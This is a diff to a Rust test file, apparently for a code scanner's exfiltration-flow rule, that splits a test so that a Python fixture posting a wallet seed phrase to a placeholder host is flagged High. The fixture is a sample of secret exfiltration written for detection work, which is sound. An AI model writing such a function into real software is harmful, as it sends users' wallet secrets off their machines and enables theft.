@@ -518,17 +518,28 @@ def balance(mnemonic):
 }
 
 #[test]
-fn a_password_to_a_decoded_address_or_a_mnemonic_to_a_plain_one_is_no_flow() {
+fn a_password_to_a_decoded_address_is_no_flow() {
     let r = module(
         r#"import base64, requests
 def login(password):
     url = base64.b64decode(CONFIG["api"]).decode()
     return requests.post(url, json={"password": password})
+"#,
+    );
+    none(&r, "access/exfil-flow");
+}
+
+#[test]
+fn a_mnemonic_posted_to_a_plain_address_is_high_as_any_wallet_secret_posted() {
+    // The seed phrase itself leaves the machine; no wallet needs to send it
+    // (see hidden_flows.rs for the rule and its benign look-alike).
+    let r = module(
+        r#"import requests
 def backup(mnemonic):
     return requests.post("https://vault.acme.example.com/backup", json={"mnemonic": mnemonic})
 "#,
     );
-    none(&r, "access/exfil-flow");
+    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(3, High)]);
 }
 
 // ---------------------------------------------------------------- python -c programs kept in shell commands
